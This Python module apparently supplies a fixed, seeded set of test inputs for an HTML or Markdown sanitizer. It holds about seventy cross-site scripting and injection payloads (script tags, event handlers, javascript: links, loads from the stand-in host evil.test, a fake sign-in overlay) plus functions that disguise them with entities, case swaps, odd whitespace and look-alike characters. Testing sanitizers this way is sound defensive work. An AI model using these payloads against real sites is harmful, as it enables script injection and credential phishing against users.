"""Texts that want to run, fetch or pretend something where they are shown; always the same ones.

Each is one way to attack (a tag, a link, an image, a style), dressed (cut out of an attribute, put
into a table, encoded) by a generator with a fixed seed. What would come of one bears the word
``hostile`` as tag, id, name or class, asks ``evil.test`` for something, or runs ``RUN``.
"""

import random
from collections.abc import Callable, Iterator

RUN = "window.ran=1,alert(1)"
EVIL = "//evil.test/x"
BASE = [
    f"<script id=hostile>{RUN}</script>",
    f"<script src={EVIL}></script>",
    f"<script type=module>import '{EVIL}'</script>",
    f"<img id=hostile src=x onerror={RUN}>",
    f"<img src={EVIL}>",
    f"<img srcset='{EVIL} 2x' class=hostile>",
    f"<svg id=hostile onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text class=hostile>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=hostile onload={RUN}>'></use></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s class=hostile>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img id=hostile src=x onerror={RUN}>",
    f"<math><mi xlink:href='javascript:{RUN}' class=hostile>x</mi></math>",
    f"<iframe id=hostile src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<video id=hostile><source onerror={RUN}></video>",
    f"<audio src={EVIL} autoplay class=hostile></audio>",
    f"<details open ontoggle={RUN} id=hostile><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN} name=hostile>",
    f"<textarea autofocus onfocus={RUN} name=hostile></textarea>",
    f"<select autofocus onfocus={RUN} name=hostile></select>",
    f"<button formaction='javascript:{RUN}' form=x id=hostile>x</button>",
    f"<form action={EVIL} id=hostile><input type=submit></form>",
    f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}><link rel=prefetch href={EVIL}>",
    f"<style id=hostile>@import '{EVIL}';body{{background:url({EVIL})}}</style>",
    f"<div id=hostile style='background:url({EVIL})'>x</div>",
    "<div class='hostile dialog' style='position:fixed;inset:0'>Sign in again</div>",
    f"<body onload={RUN} class=hostile>",
    f"<marquee onstart={RUN} id=hostile>x</marquee>",
    f"<hostile-x onanimationstart={RUN} style=animation-name:x>x</hostile-x>",
    f"<template id=hostile><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img id=hostile src=x onerror={RUN}>'>",
    f"<p title='<!--'><img id=hostile src=x onerror={RUN}>-->",
    f"<![CDATA[><img id=hostile src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><script id=hostile>{RUN}</script>",
    f"<a href='javascript:{RUN}' id=hostile>x</a>",
    f"<a href=x onclick={RUN} id=hostile>x</a>",
    f"<p data-decide=approve data-tool=x class=hostile>x</p><img src={EVIL}>",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](java&#x09;script:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](vbscript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f'[x](https://shop.example "\\" onmouseover={RUN} id=hostile x=\\"")',
    f"[x](https://shop.example/'onmouseover='{RUN}'id='hostile)",
    f"<javascript:{RUN}>",
    f"![x](https:{EVIL})",
    f"![x][1]\n\n[1]: https:{EVIL}",
    f"[![x](https:{EVIL})](https:{EVIL})",
    f"![x](javascript:{RUN})",
    f"```\"><img id=hostile src=x onerror={RUN}>\nx\n```",
    f"```html\n<script id=hostile>{RUN}</script>\n```",
    f"~~~{RUN}'\" onmouseover={RUN} class=hostile\nx\n~~~",
    f"`<img id=hostile src=x onerror={RUN}>`",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\(<img id=hostile src=x onerror={RUN}>\\)",
    f"https:{EVIL}\"onmouseover=\"{RUN}\"id=\"hostile",
    f"mailto:x@evil.test?subject=<script id=hostile>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
    f"{{% include 'x' %}}{{{{ x|safe }}}}<img id=hostile src=x onerror={RUN}>",
]  # fmt: skip
BREAKS = ["", "", "", "\">", "'>", "-->", "</textarea>", "</title>", "</script>", "</style>", "]]>",
          "\\\">", "&quot;>", "</template>", "</svg>", "</button></form>", "`\">"]  # fmt: skip


def payloads(number: int) -> list[str]:
    """Return so many different texts; the first ones are the plain ways themselves."""
    found = dict.fromkeys(BASE)
    for text in _dressed():
        if len(found) >= number:
            break
        found.setdefault(text)
    return list(found)[:number]


def _dressed() -> Iterator[str]:
    chance = random.Random(20261120)  # noqa: S311 - to be the same each time
    while True:
        text = chance.choice(BREAKS) + chance.choice(BASE)
        yield chance.choice(_DRESSES)(chance.choice(_CODES)(text, chance))


Dress = Callable[[str], str]
_DRESSES: list[Dress] = [
    lambda text: text,
    lambda text: text,
    lambda text: f"> {text}",
    lambda text: f"- {text}\n- x",
    lambda text: f"# {text}",
    lambda text: f"**{text}** _{text}_",
    lambda text: f"| {text} | x |\n|---|--:|\n| x | {text} |",
    lambda text: f"[{text}](https://shop.example)",
    lambda text: f"[x](https://shop.example '{text}')",
    lambda text: f"![{text}](https:{EVIL})",
    lambda text: f"<!-- {text}",
    lambda text: f"<p>{text}",
    lambda text: f"x\n\n    {text}\n\n{text}",
    lambda text: f"```{text}\n{text}\n```",
]


def _same(text: str, chance: random.Random) -> str:
    del chance
    return text


def _swapped(text: str, chance: random.Random) -> str:
    return "".join(chance.choice([letter.upper(), letter.lower()]) for letter in text)


def _entities(text: str, chance: random.Random) -> str:
    style = chance.choice(["&#{};", "&#x{:x};", "&#0000{}"])
    return "".join(style.format(ord(one)) if chance.random() < 0.3 else one for one in text)


def _spaced(text: str, chance: random.Random) -> str:
    space = chance.choice(["\t", "\n", "\x0b", "\x0c", "/", "\u00a0", "\u200b", "\u2028"])
    return text.replace(" ", space)


def _doubled(text: str, chance: random.Random) -> str:
    del chance
    return text.replace("<", "<<").replace("script", "scr<script>ipt")


def _wide(text: str, chance: random.Random) -> str:
    odd = str.maketrans({"<": chance.choice("\uff1c\u2039<"), "'": "\u2019", '"': "\u201d"})
    return text.translate(odd) + "\u202e" + text


_CODES = [_same, _same, _same, _swapped, _entities, _spaced, _doubled, _wide]
